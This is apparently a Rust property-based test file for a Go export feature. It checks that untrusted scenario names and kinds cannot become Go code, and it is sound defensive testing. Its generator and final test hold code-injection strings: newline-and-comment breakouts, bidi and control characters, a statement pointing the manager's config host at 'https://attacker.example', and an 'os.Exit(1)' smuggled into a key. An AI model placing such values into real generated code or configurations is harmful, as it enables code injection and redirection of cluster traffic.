//! The Go export from scenarios anyone may send (a share link, a file):
//! with arbitrary strings in every name, kind and written kind, the code
//! parses, has exactly the statements the export writes (no string put one
//! there), is gofmt-clean, and reads back to the same set-up.

use proptest::prelude::*;
use workqueue_core::{BucketSpec, ClientLimit, ClientScope, CrossplaneConfig};
use workqueue_core::{Burst, ClientQps, Qps, ReconcileRate, Requests, Workers};
use workqueue_core::{LimiterConfig, QueueKind, Scenario};
use workqueue_go::export::{go, SetUp};
use workqueue_go::import;
use workqueue_go::kind_types;

mod common;

/// Strings meant to break out: newlines, quotes, backslashes, escapes,
/// NUL, bidi controls, line separators, comment and statement openers.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "\n",
        "\r\n",
        "\"",
        "\\",
        "`",
        "*/",
        "/*",
        "//",
        "\u{1b}[31m",
        "\0",
        "\u{202e}",
        "\u{2066}",
        "\u{2028}",
        "\u{feff}",
        "\u{7f}",
        "\u{85}",
        "\t",
        "a-b",
        "a_b",
        "é",
        "日本",
        "😀",
        "mgr.GetConfig().Host = \"https://attacker.example\"",
        "}\nfunc init() {",
        "widgets",
        "Pod",
        " ",
        "%s",
        "{}",
    ]);
    prop_oneof![
        prop::collection::vec(pieces, 1..5).prop_map(|v| v.concat()),
        "\\PC{1,12}",
        any::<String>().prop_filter("not empty", |s| !s.is_empty()),
    ]
    .prop_map(|s: String| s.chars().take(60).collect())
}

fn limiter() -> impl Strategy<Value = Option<LimiterConfig>> {
    prop::sample::select(common::limiters())
}

/// A scenario with hostile strings wherever a scenario has text.
fn scenario() -> impl Strategy<Value = Scenario> {
    let controller = (
        hostile(),
        hostile(),
        prop::collection::btree_map(hostile(), 1u32..4, 0..3),
        limiter(),
        any::<bool>(),
        any::<bool>(),
        1u32..9,
    );
    (
        prop::collection::vec(controller, 1..4),
        0usize..5,
        any::<bool>(),
    )
        .prop_map(|(controllers, client, shared)| {
            let mut s = Scenario::new("hostile");
            let template = s.controllers[0].clone();
            s.controllers = controllers
                .into_iter()
                .enumerate()
                .map(|(i, (name, kind, writes, limiter, pq, shares, workers))| {
                    let mut c = template.clone();
                    // Names are unique in a scenario (validation says so).
                    c.name = format!("{i}{name}");
                    c.kind = kind;
                    c.writes = writes
                        .into_iter()
                        .map(|(k, n)| (k, Requests::lit(n)))
                        .collect();
                    c.limiter = limiter;
                    c.queue = if pq {
                        QueueKind::Priority
                    } else {
                        QueueKind::ClientGo
                    };
                    c.shares_bucket = shares && shared;
                    c.controller.workers = Workers::new(workers).unwrap();
                    c
                })
                .collect();
            s.shared_bucket = shared.then_some(BucketSpec {
                qps: Qps::lit(3.0),
                burst: Burst::lit(9),
            });
            s.client = match client {
                0 => None,
                1 => Some(ClientLimit::per_kind(ClientQps::lit(20.0), Burst::lit(30))),
                2 => Some(ClientLimit {
                    qps: ClientQps::lit(5.0),
                    burst: Burst::lit(10),
                    per: ClientScope::Clientset,
                }),
                3 => Some(ClientLimit {
                    qps: ClientQps::lit(12.5),
                    burst: Burst::lit(25),
                    per: ClientScope::Shared,
                }),
                _ => {
                    // Crossplane's global bucket is the shared one.
                    s.shared_bucket = None;
                    s.crossplane = Some(CrossplaneConfig::note_2021(ReconcileRate::lit(3)));
                    Some(ClientLimit::per_kind(ClientQps::lit(15.0), Burst::lit(30)))
                }
            };
            s
        })
}

/// The same scenario with every string replaced by a plain one (equal
/// strings stay equal): the code the export writes around the strings.
fn neutral(s: &Scenario) -> Scenario {
    let mut seen: Vec<String> = Vec::new();
    let mut plain = |t: &str| {
        let i = match seen.iter().position(|x| x == t) {
            Some(i) => i,
            None => {
                seen.push(t.to_string());
                seen.len() - 1
            }
        };
        format!("s{i}")
    };
    let mut n = s.clone();
    for c in &mut n.controllers {
        c.name = plain(&c.name);
        c.kind = plain(&c.kind);
        c.writes = c.writes.iter().map(|(k, v)| (plain(k), *v)).collect();
    }
    n
}

/// The code's tokens with the text of identifiers, literals and comments
/// left out: what a Go scanner sees as the program's shape.
fn shape(code: &str) -> Vec<String> {
    gosyn::tokenize_source(code)
        .unwrap_or_else(|e| panic!("the export does not scan as Go: {e}\n{code}"))
        .into_iter()
        .map(|t| match t.token {
            gosyn::token::Token::Literal(kind, _) => {
                format!("{:?}", gosyn::token::TokenKind::Literal(kind))
            }
            gosyn::token::Token::Comment(_) => "comment".into(),
            other => format!("{other:?}"),
        })
        .collect()
}

/// Cases per run: 256, or `WQ_FUZZ_CASES` (`bash scripts/fuzz.sh`).
fn cases(default: u32) -> u32 {
    std::env::var("WQ_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(256), ..ProptestConfig::default() })]

    #[test]
    fn no_string_becomes_code(s in scenario()) {
        let code = go(&s);
        gosyn::parse_source(&code).unwrap_or_else(|e| panic!("not Go: {e}\n{code}"));
        // Every string stays inside its literal: the file's shape is the
        // one the export writes for plain names.
        prop_assert_eq!(shape(&code), shape(&go(&neutral(&s))), "{}", code);
        // Nothing that moves text or ends a line hides in the file.
        for c in ['\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{2028}', '\u{2029}', '\u{feff}', '\r', '\0', '\u{1b}'] {
            prop_assert!(!code.contains(c), "{:?} in\n{}", c, code);
        }
        // Different kinds keep different types (their own client buckets).
        let kinds = kind_types(&s);
        for i in 0..s.controllers.len() {
            for j in 0..s.controllers.len() {
                prop_assert_eq!(
                    kinds[i] == kinds[j],
                    s.controller_kind(i) == s.controller_kind(j)
                );
            }
        }
        // It reads back to the same set-up, names exactly.
        let back = import(&[("main.go".into(), code.clone())])
            .unwrap_or_else(|e| panic!("{e}\n{code}"));
        prop_assert_eq!(SetUp::of(&back.scenario), SetUp::of(&s), "{}", code);
    }
}

proptest! {
    // gofmt is a process per case: fewer cases.
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    #[test]
    fn hostile_exports_are_gofmt_clean(s in scenario()) {
        if let Err(diff) = workqueue_go::export::gofmt_clean(&go(&s)) {
            panic!("not gofmt-clean:\n{diff}");
        }
    }
}

/// The link of the report: a name that ends the comment and writes a
/// statement. It stays one string literal.
#[test]
fn a_name_with_a_newline_writes_no_statement() {
    let mut s = Scenario::new("link");
    s.controllers[0].name = "x\n\tmgr.GetConfig().Host = \"https://attacker.example\"\n\t//".into();
    s.controllers[0].writes = [("Secret\nos.Exit(1)".to_string(), Requests::lit(1))].into();
    let code = go(&s);
    assert!(
        !code
            .lines()
            .any(|l| l.trim_start().starts_with("mgr.GetConfig()")
                || l.trim_start().starts_with("os.Exit")),
        "{code}"
    );
    assert!(code.contains(r#"\"https://attacker.example\""#), "{code}");
    assert_eq!(shape(&code), shape(&go(&neutral(&s))), "{code}");
}
